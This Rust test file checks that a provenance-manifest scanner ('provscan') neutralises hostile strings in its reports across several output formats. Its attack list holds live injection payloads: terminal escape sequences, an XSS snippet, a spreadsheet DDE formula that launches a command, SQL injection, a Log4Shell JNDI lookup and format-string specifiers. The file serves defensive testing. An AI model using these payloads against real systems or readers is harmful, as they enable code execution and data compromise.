//! Strings in manifests that mean harm to whoever reads a report: a terminal, a spreadsheet, a page.

use serde_json::Value;

use super::{jpeg, png};
use crate::support::jumbf::{Assertion, Cbor, Manifest, Seal, store};
use crate::support::{Folder, provscan, run};

const FORMATS: [&str; 5] = ["text", "page", "json", "jsonl", "csv"];

/// Escapes, controls of the second set, text that runs backwards or is not seen, line ends, markup, formulas, length.
fn attacks() -> Vec<String> {
    let mut all: Vec<String> = [
        "\u{1b}[2J\u{1b}[1;1Hall is well",
        "\u{1b}]0;title\u{7}\u{1b}]8;;http://x/\u{1b}\\link",
        "\u{9b}31mred\u{9d}0;t\u{9c}",
        "a\u{202e}gpj.exe\u{2066}b\u{2069}\u{200f}\u{61c}",
        "hid\u{200b}den\u{feff}\u{2060}\u{e0041}\u{180e}",
        "a\rb\u{8}\u{8}c\u{b}\u{c}\u{7f}d\u{85}e\u{2028}f\u{2029}g",
        "x\nno-evidence   pass    /tmp/other.jpg\n",
        "\u{0}nothing",
        "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>",
        "&lt;b&gt;</td></tr><!--",
        "=cmd|'/c calc'!A1",
        "+1+1",
        "-2",
        "@SUM(A1)",
        "\t=1",
        " =1",
        "＝1",
        "\",\"=1\"\r\n=2",
        "'; drop table images; --",
        "{{7*7}}${jndi:ldap://x}",
        "%s%n%x",
    ]
    .map(str::to_owned)
    .into();
    all.push("long ".repeat(40_000));
    all
}

/// A manifest that says it everywhere.
fn said(attack: &str, signer: &'static str, image: bool) -> Vec<u8> {
    let carrier = if image { jpeg() } else { png() };
    carrier.bound(|binding| {
        let action = |name: &str, source_type: &str| {
            Cbor::map([
                ("action", name.into()),
                ("digitalSourceType", source_type.into()),
                ("softwareAgent", Cbor::map([("name", attack.into())])),
                ("description", attack.into()),
            ])
        };
        let generated = "http://cv.iptc.org/newscodes/digitalsourcetype/trainedAlgorithmicMedia";
        let actions = Assertion::actions(&[
            action("c2pa.created", generated),
            action("c2pa.edited", attack),
            action(attack, attack),
        ]);
        let past = Manifest::new("1", vec![Assertion::created("digitalCapture")]).write();
        let part = Assertion::ingredient(0, "componentOf", attack, &past.target);
        let entries = serde_json::json!({"entries": {attack: {"use": attack}}}).to_string();
        let reserved = Assertion::json("cawg.training-mining", &entries);
        let mut own = Manifest::new("2", vec![binding, actions, part, reserved]);
        own.generator = attack.into();
        own.title = attack.into();
        own.seal = Seal::of(signer);
        store(&[past, own.write()])
    })
}

/// What may not stand in any output as it is.
fn is_harmful(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}')
        || matches!(c, '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
}

#[test]
fn no_string_of_a_manifest_reaches_a_reader_as_it_is() {
    let folder = Folder::new();
    let mut count = 0;
    for attack in attacks() {
        for (signer, image) in [("test-signer", true), ("unknown-signer", false)] {
            folder.put(format!("{count:03}.img"), said(&attack, signer, image));
            count += 1;
        }
        let lone = super::store_of(&said(&attack, "test-signer", true));
        folder.put(format!("{count:03}.c2pa"), lone);
        count += 1;
    }
    for verb in ["check", "scan"] {
        for format in FORMATS {
            let mut command = provscan();
            command.args([
                verb,
                "--color",
                "never",
                "--format",
                format,
                "--trust-anchors",
            ]);
            command.arg("samples/trust/anchors.pem");
            let mut paths: Vec<_> = (std::fs::read_dir(folder.path()).unwrap())
                .map(|entry| entry.unwrap().path())
                .collect();
            paths.sort();
            let ran = run(command.args(paths), b"");
            let what = format!("{verb} {format}");
            let harmful = ran.out.chars().find(|c| is_harmful(*c));
            assert_eq!(harmful, None, "{what}");
            assert_eq!(
                ran.err.chars().find(|c| is_harmful(*c) && *c != '\r'),
                None,
                "{what}"
            );
            assert!(
                ran.out.len() < count * 20_000,
                "{what}: {} bytes",
                ran.out.len()
            );
            whole(format, &ran.out, count);
        }
    }
}

/// Every input has its answer, and only that.
fn whole(format: &str, out: &str, count: usize) {
    let lines = || out.lines().collect::<Vec<_>>();
    match format {
        "json" => {
            let report: Value = serde_json::from_str(out).unwrap();
            assert_eq!(report["records"].as_array().unwrap().len(), count);
        }
        "jsonl" => {
            for line in lines() {
                serde_json::from_str::<Value>(line).unwrap();
            }
            assert_eq!(lines().len(), count + 1);
        }
        "csv" => {
            let mut reader = csv::Reader::from_reader(out.as_bytes());
            let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
            assert_eq!(rows.len(), count);
            let begins = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
            let cells = rows.iter().flatten();
            for cell in cells {
                assert!(!cell.trim_start().starts_with(begins), "{cell}");
            }
        }
        "text" => {
            let told = lines()
                .into_iter()
                .filter(|line| line.contains("provscan-it-"));
            let told: Vec<_> = told.collect();
            assert_eq!(told.len(), count, "{told:#?}");
        }
        _ => {}
    }
}
